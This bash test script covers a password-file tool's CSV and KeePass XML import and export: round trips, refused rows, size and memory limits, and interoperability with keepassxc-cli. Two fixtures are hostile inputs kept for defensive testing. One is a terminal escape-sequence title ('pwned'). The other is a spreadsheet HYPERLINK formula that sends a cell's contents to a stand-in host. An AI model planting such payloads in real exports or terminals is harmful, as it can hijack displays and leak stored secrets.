#!/usr/bin/env bash
# One case of kavelmark-file's import and export: port_test.sh TOOL CASE
set -euo pipefail
# shellcheck source=SCRIPTDIR/../../support/tool_case.sh
. "$(dirname "${BASH_SOURCE[0]}")/../../support/tool_case.sh" "$@"

# Runs the tool with standard input from a file; output in $work/out, messages in $work/err.
run() {
    local input="$1"
    shift
    rc=0
    "$tool" "$@" <"$input" >"$work/out" 2>"$work/err" || rc=$?
}

expect_rc() {
    [ "$rc" = "$1" ] || fail "exit status $rc, expected $1; messages: $(cat "$work/err")"
}

# The entry records of a dump, one JSON string a line, in store order.
entries_of() {
    printf '%s\n' "$1" >"$work/password"
    run "$work/password" dump "$2"
    expect_rc 0
    grep -oE '"_E__\|_([^"\\]|\\.)*"' "$work/out" || true
}

write_file() {
    "$tool" write "$1" >/dev/null || fail "write of the fixture failed"
}

case "$case" in
csv_columns)
    # The peers' columns are filled by the category's labels; the own columns after them
    # carry each entry unchanged.
    cat >"$work/request" <<'JSON'
{"password": "pw", "records": [
 "_E__|_FTP_|_Jürgen's FTP_|_Server $3_|_jürgen_|_Pa,ss\"wört€_|_ftp.example.de_|_",
 "_E__|_PIN/TAN_|_Sparkasse_|__|_12345_|_0815_|_471100_|_",
 "_E__|_DFÜ_|_Einwahl_|_Zwei\nZeilen_|_anna_|_ pw _|_0301234_|_",
 "_E__|_ Hmm?_|_$1_|_$3_|_new key_|_new password_|_new details_|_"]}
JSON
    write_file "$file" <"$work/request"
    printf 'pw\n' >"$work/password"
    run "$work/password" export --format csv "$file"
    expect_rc 0
    printf '%s\r\n' \
        'Group,Title,Username,Password,URL,Notes,Kavelmark Label 1,Kavelmark Label 2,Kavelmark Label 3,Kavelmark Value 1,Kavelmark Value 2,Kavelmark Value 3,Kavelmark Description' \
        'FTP,Jürgen'"'"'s FTP,jürgen,"Pa,ss""wört€",ftp.example.de,Server $3,User,Password (*),Host,jürgen,"Pa,ss""wört€",ftp.example.de,Server $3' \
        'PIN/TAN,Sparkasse,12345,0815,,TAN (*): 471100,Konto,PIN (*),TAN (*),12345,0815,471100,' \
        'DFÜ,Einwahl,anna," pw ",,"Zwei
Zeilen
Phone No: 0301234",User,Password (*),Phone No,anna," pw ",0301234,"Zwei
Zeilen"' \
        '" Hmm?",$1,new key,new password,,"$3
Details: new details",Key,Password (*),Details,new key,new password,new details,$3' >"$work/expected"
    cmp -s "$work/out" "$work/expected" || fail "CSV differs: $(diff <(cat -A "$work/expected") <(cat -A "$work/out"))"
    grep -q "plaintext" "$work/err" || fail "no plaintext warning on standard error"
    # A wrong password exports nothing; an unknown format is refused.
    printf 'falsch\n' >"$work/password"
    run "$work/password" export --format csv "$file"
    expect_rc 1
    [ ! -s "$work/out" ] || fail "a failed load wrote output"
    run "$work/password" export --format html "$file"
    expect_rc 2
    ;;
csv_round_trip)
    # Everything an entry can hold comes back from export and import unchanged: umlauts,
    # line breaks (LF and CRLF), quotes, commas, blanks at the edges, placeholders, the bytes
    # cp1252 leaves undefined, a category of the file's own and an entry without a category.
    cat >"$work/request" <<'JSON'
{"password": "Pässwort", "records": [
 "_C__|_Server_|_Konto_|_Geheim (*)_|_Adresse_|_",
 "_E__|_FTP_|_Grüße an $1_|_Zeile 1\nZeile 2\r\nZeile 3_|_jürgen_|_Pa,ss\"wört€_|_ftp.example.de_|_",
 "_E__|_Server_|_ Lücke _|_„Zitat“, Komma_|_root_|_s€cret_|_10.0.0.1_|_",
 "_E__|_Verschollen_|_ohne Kategorie_|__|_a_|_b_|_c_|_",
 "_E__|_Web-Site_|__|__|__|__|__|_",
 "_E__|_ Hmm?_|_\"x_|y\"_|_\u0081\u008d\u008f\u0090\u009d_|_$2_|_y\n_|_z,_|_",
 "_E__|_PIN/TAN_|_Sparkasse_|_Konto $1_|_12345_|_0815_|_471100_|_"]}
JSON
    write_file "$file" <"$work/request"
    original="$(entries_of 'Pässwort' "$file")"
    [ "$(printf '%s\n' "$original" | wc -l)" = 6 ] || fail "fixture holds other entries: $original"
    printf 'Pässwort\n' >"$work/password"
    run "$work/password" export --format csv "$file"
    expect_rc 0
    cp "$work/out" "$work/export.csv"
    { printf 'neu\n'; cat "$work/export.csv"; } >"$work/import"
    copy="$work/copy.Kavelmark"
    run "$work/import" import --format csv "$copy"
    expect_rc 0
    copied="$(entries_of neu "$copy")"
    [ "$copied" = "$original" ] || fail "entries differ after the round trip:
$(diff <(printf '%s\n' "$original") <(printf '%s\n' "$copied"))"
    grep -qF '"_C__|_Server_|_Konto_|_Geheim (*)_|_Adresse_|_"' "$work/out" ||
        fail "the file's own category was not created with its labels"
    if grep -qF '"_C__|_Verschollen_|_' "$work/out"; then
        fail "a category was made up for an entry without one"
    fi
    # Importing into a file that has entries appends after them.
    { printf 'Pässwort\n'; cat "$work/export.csv"; } >"$work/import"
    run "$work/import" import --format csv "$file"
    expect_rc 0
    [ "$(entries_of 'Pässwort' "$file")" = "$(printf '%s\n%s' "$original" "$original")" ] ||
        fail "import into a file with entries did not append them"
    ;;
refused_rows)
    cat >"$work/request" <<'JSON'
{"password": "pw", "records": ["_E__|_FTP_|_alt_|__|_u_|_p_|_h_|_"]}
JSON
    write_file "$file" <"$work/request"
    before="$(od -An -tx1 "$file")"
    # Rows 2 and 5 are fine; row 3 holds the separator, row 4 (over two lines) a trailing
    # "_|" and a character outside cp1252, row 6 has a field too few.
    printf '%s\r\n' 'pw' 'Group,Title,Username,Password,URL,Notes' \
        'FTP,gut,u,p,h,n' \
        'FTP,Trenner,u,p,h,a_|_b' \
        'FTP,"Zwei
Zeilen",u,p_|,h,中' \
        'Web-Site,auch gut,u,p,h,n' \
        'FTP,kurz,u,p,h' >"$work/import"
    run "$work/import" import --format csv "$file"
    expect_rc 2
    for message in 'row 3 "Trenner": the column "Notes" holds "_|_"' \
        'Zeilen": the column "Password" holds "_|_" or ends in "_|"' \
        'Zeilen": the column "Notes" holds a character that cp1252 cannot store' \
        'row 4 "Zwei' 'row 6 (line 7) "kurz" has 5 fields'; do
        grep -qF "$message" "$work/err" || fail "no message with <$message>: $(cat "$work/err")"
    done
    if grep -qE 'row (2|5)' "$work/err"; then
        fail "a good row was named: $(cat "$work/err")"
    fi
    [ "$(od -An -tx1 "$file")" = "$before" ] || fail "a refused import changed the file"
    # Malformed quoting names its line; a wrong password or a missing file changes nothing.
    printf '%s\n' 'pw' 'Group,Title' 'FTP,"offen' >"$work/import"
    run "$work/import" import --format csv "$file"
    expect_rc 2
    grep -qF 'line 2: a quoted field is not closed' "$work/err" || fail "no line for bad quoting: $(cat "$work/err")"
    printf '%s\n' 'falsch' 'Group,Title' 'FTP,neu' >"$work/import"
    run "$work/import" import --format csv "$file"
    expect_rc 1
    [ "$(od -An -tx1 "$file")" = "$before" ] || fail "an import with a wrong password changed the file"
    printf '%s\n' 'pw' 'Group,Title' 'FTP,"a_|_b"' >"$work/import"
    run "$work/import" import --format csv "$work/missing.Kavelmark"
    expect_rc 2
    [ ! -e "$work/missing.Kavelmark" ] || fail "a refused import created a file"
    # Loading would move a file of an older version aside: both commands leave it alone.
    # A V0.1 file loads under any password, so only the refusal keeps it in place.
    old="$work/old.Kavelmark"
    printf '%s\n' 'pw' 'Group,Title' 'FTP,neu' >"$work/import"
    for version in V0.1 V0.2; do
        printf '\x10\x00\x00\x00Kavelmark %s  old data' "$version" >"$old"
        cp "$old" "$work/old.copy"
        run "$work/import" import --format csv "$old"
        expect_rc 1
        run "$work/import" export --format csv "$old"
        expect_rc 1
        cmp -s "$old" "$work/old.copy" && [ ! -e "$old.old_1" ] ||
            fail "a file of version $version was touched"
    done
    ;;
terminal_safe)
    # Names and cells go into messages: their control characters must not reach the terminal.
    cat >"$work/request" <<'JSON'
{"password": "pw", "records": ["_E__|_FTP_|_\u001b]2;pwned\u0007\u001b[2J\u009d31m_|__|_u_|_p_|_h_|_"]}
JSON
    write_file "$file" <"$work/request"
    printf 'pw\n' >"$work/password"
    run "$work/password" export --format keepass-xml "$file"
    expect_rc 1
    grep -qF 'entry 1 ("\x1b]2;pwned\x07\x1b[2J\u009d31m") holds a control character' "$work/err" ||
        fail "the refusal does not name the entry escaped: $(cat -A "$work/err")"
    printf '%s\r\n' pw 'Title,Password' $'\e[2Jname,a_|_b' >"$work/import"
    run "$work/import" import --format csv "$file"
    expect_rc 2
    grep -qF 'row 2 "\x1b[2Jname": the column "Password"' "$work/err" ||
        fail "the import refusal does not name the row escaped: $(cat -A "$work/err")"
    if LC_ALL=C grep -q $'[\x01-\x09\x0b-\x1f\x7f]\\|\xc2[\x80-\x9f]' "$work/err"; then
        fail "a control character reached standard error: $(cat -A "$work/err")"
    fi
    ;;
spreadsheet_safe)
    # Lossless by default, as other password managers need it; defused on request.
    cat >"$work/request" <<'JSON'
{"password": "pw", "records": ["_E__|_FTP_|_@home_|_=HYPERLINK(\"http://x/?\"&D2)_|_-u_|_+p_|_h_|_"]}
JSON
    write_file "$file" <"$work/request"
    printf 'pw\n' >"$work/password"
    run "$work/password" export --format csv "$file"
    expect_rc 0
    expected_row='FTP,@home,-u,+p,h,"=HYPERLINK(""http://x/?""&D2)",User,Password (*),Host,-u,+p,h,"=HYPERLINK(""http://x/?""&D2)"'
    [ "$(sed -n 2p "$work/out")" = "$expected_row"$'\r' ] || fail "the lossless export changed a cell: $(sed -n 2p "$work/out")"
    run "$work/password" export --format csv --spreadsheet-safe "$file"
    expect_rc 0
    expected_row="FTP,'@home,'-u,'+p,h,\"'=HYPERLINK(\"\"http://x/?\"\"&D2)\",User,Password (*),Host,'-u,'+p,h,\"'=HYPERLINK(\"\"http://x/?\"\"&D2)\""
    [ "$(sed -n 2p "$work/out")" = "$expected_row"$'\r' ] || fail "the safe export left a formula: $(sed -n 2p "$work/out")"
    run "$work/password" export --format keepass-xml --spreadsheet-safe "$file"
    expect_rc 2
    ;;
input_limits)
    # More than a password file can hold is refused before it is read whole.
    { printf 'pw\nTitle\r\n'; head -c 67108864 /dev/zero | tr '\0' a; } >"$work/import"
    run "$work/import" import --format csv "$file"
    expect_rc 1
    [ "$(cat "$work/err")" = "kavelmark-file: standard input holds more than 64 MB, more than a password file can take" ] ||
        fail "unexpected messages: $(cat "$work/err")"
    [ ! -e "$file" ] || fail "a refused import wrote a file"
    # Running out of memory on the way is a message, not a crash. The sanitizers reserve
    # more address space than any limit here leaves.
    # Read whole first: a grep that stops early would break the pipe under pipefail.
    libraries="$(ldd "$tool" 2>/dev/null || true)"
    case "$libraries" in
    *libasan*)
        echo "SKIP: an address space limit and AddressSanitizer do not go together"
        exit 77
        ;;
    esac
    { printf 'pw\nTitle\r\n'; yes a | head -c 30000000 || true; } >"$work/import"
    rc=0
    (ulimit -v 300000 && exec "$tool" import --format csv "$file") <"$work/import" >"$work/out" 2>"$work/err" || rc=$?
    expect_rc 1
    [ "$(cat "$work/err")" = "kavelmark-file: out of memory; $file is unchanged" ] ||
        fail "unexpected messages: $(cat "$work/err")"
    [ ! -e "$file" ] || fail "an import that ran out of memory wrote a file"
    ;;
peer_round_trip)
    if ! command -v keepassxc-cli >/dev/null; then
        echo "SKIP: keepassxc-cli is not installed (bash scripts/install-deps --test installs it)"
        exit 77
    fi
    export HOME="$work" XDG_CONFIG_HOME="$work/config" XDG_CACHE_HOME="$work/cache" QT_QPA_PLATFORM=offscreen
    cat >"$work/request" <<'JSON'
{"password": "pw", "records": [
 "_C__|_Server_|_Konto_|_Geheim (*)_|_Adresse_|_",
 "_E__|_FTP_|_Jürgen's FTP_|_Server $3_|_jürgen_|_Pa,ss\"wört€_|_ftp.example.de_|_",
 "_E__|_PIN/TAN_|_Sparkasse_|__|_12345_|_0815_|_471100_|_",
 "_E__|_ Hmm?_|_Schlüssel_|_Keller_|_Tür_|_Öffne dich_|_unten_|_",
 "_E__|_Web-Site_|_Post & <Mail>_|_Zwei\nZeilen_|_anna@example.de_|_<&>\"'_|_https://mail.example.de_|_",
 "_E__|_Server_|_Wurzel_|__|_root_|_s€cret\r\nzweite Zeile_|_10.0.0.1_|_"]}
JSON
    write_file "$file" <"$work/request"
    printf 'pw\n' >"$work/password"
    run "$work/password" export --format keepass-xml "$file"
    expect_rc 0
    grep -q "plaintext" "$work/err" || fail "no plaintext warning on standard error"
    cp "$work/out" "$work/export.xml"
    printf 'kdbx-pw\nkdbx-pw\n' | timeout 60 keepassxc-cli import -p "$work/export.xml" "$work/peer.kdbx" >/dev/null 2>"$work/err" ||
        fail "keepassxc-cli import refused the XML: $(cat "$work/err")"
    printf 'kdbx-pw\n' | timeout 60 keepassxc-cli export -f csv "$work/peer.kdbx" >"$work/peer.csv" 2>"$work/err" ||
        fail "keepassxc-cli export failed: $(cat "$work/err")"
    # Title, user name and password as the peer writes them, every field quoted.
    [ "$(grep -c '^"Kavelmark/' "$work/peer.csv")" = 5 ] || fail "the peer holds other entries: $(cat "$work/peer.csv")"
    for triple in '"Jürgen'"'"'s FTP","jürgen","Pa,ss""wört€",' '"Sparkasse","12345","0815",' \
        '"Schlüssel","Tür","Öffne dich",' '"Post & <Mail>","anna@example.de","<&>""'"'"'",' \
        '"Wurzel","root","s€cret'; do
        grep -qF "$triple" "$work/peer.csv" || fail "the peer lacks <$triple>: $(cat "$work/peer.csv")"
    done
    # And back: the peer's CSV goes into Kavelmark's categories by its group paths; values
    # without a field of their own stay in the description.
    { printf 'neu\n'; cat "$work/peer.csv"; } >"$work/import"
    run "$work/import" import --format csv "$work/back.Kavelmark"
    expect_rc 0
    cat >"$work/expected" <<'RECORDS'
"_E__|_FTP_|_Jürgen's FTP_|_Server $3_|_jürgen_|_Pa,ss\"wört€_|_ftp.example.de_|_"
"_E__|_PIN/TAN_|_Sparkasse_|_TAN (*): 471100_|_12345_|_0815_|__|_"
"_E__|_ Hmm?_|_Schlüssel_|_Keller\nDetails: unten_|_Tür_|_Öffne dich_|__|_"
"_E__|_Web-Site_|_Post & <Mail>_|_Zwei\nZeilen_|_anna@example.de_|_<&>\"'_|_https://mail.example.de_|_"
"_E__|_Server_|_Wurzel_|__|_root_|_s€cret\r\nzweite Zeile_|_10.0.0.1_|_"
RECORDS
    back="$(entries_of neu "$work/back.Kavelmark")"
    [ "$back" = "$(cat "$work/expected")" ] ||
        fail "the peer's CSV came back as: $(diff "$work/expected" <(printf '%s\n' "$back"))"
    ;;
*)
    fail "unknown case"
    ;;
esac
